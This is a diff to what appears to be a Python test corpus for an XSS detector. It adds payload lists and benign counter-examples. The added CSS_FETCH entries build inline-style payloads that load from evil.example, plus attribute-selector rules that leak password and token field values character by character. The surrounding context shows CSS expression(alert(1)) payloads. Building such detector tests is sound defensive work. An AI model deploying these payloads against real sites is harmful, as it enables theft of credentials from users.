@@ -72,6 +72,17 @@ for (prop, val), enc in itertools.product(CSS_RUNS, CSS_ENCODINGS):
     CSS.append(f'x" style="{decl}')
 CSS += [f'<div style="width: {css_comments("expression")}(alert(1))">',
         '<p style=x:expression\\28 alert(1)\\29>']
+# CSS that fetches from stored markup: a tag's style with a resource in
+# any property, and an attribute selector's rule reading a field out
+CSS_FETCH = [f'<{tag} {pre}style={q}{prop}:{fn}({src}){q}>x'
+             for (tag, pre, q), (prop, fn), src in itertools.product(
+                 [("div", "", '"'), ("SPAN", 'class="a" ', "'"), ("td", "", "")],
+                 [("background-image", "url"), ("content", "url"),
+                  ("background", "image-set"), ("list-style", "url")],
+                 ["//evil.example/t", "test5.svg"])]
+CSS_FETCH += [f'{sel}{{background:url(//evil.example/{c})}}'
+              for sel, c in [('input[value^="a"]', "a"), ("input[name=pw][value$=z]", "z"),
+                             ("[data-token *= '7']", "7")]]
 
 DATA_BINDING = [
     f'<xml id="{i}" src="/d.xml"></xml><{el} {a}="#{i}" datafld="p" '
@@ -100,6 +111,7 @@ TAGLESS = (
 XSS_CLASSES = {
     "namespaced": NAMESPACED,
     "css": CSS,
+    "css-fetch": CSS_FETCH,
     "data-binding": DATA_BINDING,
     "tagless": TAGLESS,
 }
@@ -179,6 +191,19 @@ MARKDOWN = (
        "Please call `support` or open `the ticket`.",
        "Step 2 [docs](https://example.com/docs)"]
 )
+# the keyword "function" before a backtick (a linker's message, reST's
+# literals): only the constructor, "Function", tags a template
+LINKER = ["In function `main': undefined reference to `foo'",
+          "libbar.a(obj.o): In function `func(char *)':\n: undefined reference to `__ctype'",
+          "Supported keywords: ``@function``, ``@enum`` and ``@struct``.",
+          "a function `helper` and a class `Base`"]
+# CSS written about, or styling without fetching
+STYLES = ['<span style="color:red">hi</span>', '<img src="a.png" style="width:100%">',
+          "The CSS property background: url(img.png) sets it",
+          'a[href$=".pdf"] { color: red }',
+          'a[href$=".pdf"]::after { content: url(pdf-icon.svg) }',
+          "Use `background-image: url(hero.jpg)` in the stylesheet.",
+          '<p style="margin:0 auto; font-family: Arial, sans-serif">text</p>']
 TYPES = ["@returns {Promise<Object>}", "Vec<String>", "Map<String, List<Object>>",
          "Option<Box<dyn Error>>", "List<Map<Integer, Object>>",
          "/**\n * Load it.\n * @param {string} id - the id\n * @returns {Promise<Object>}\n */",
@@ -205,7 +230,7 @@ URLS = ["https://github.com/nodejs/node/blob/main/lib/child_process.js",
         "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
         "https://example.com/docs/templates#{{name}}"]
 
-BENIGN_CLASSES = {"markdown": MARKDOWN, "types": TYPES, "placeholders": PLACEHOLDERS,
+BENIGN_CLASSES = {"markdown": MARKDOWN, "styles": STYLES, "linker": LINKER, "types": TYPES, "placeholders": PLACEHOLDERS,
                   "code": CODE, "urls": URLS}
 
 
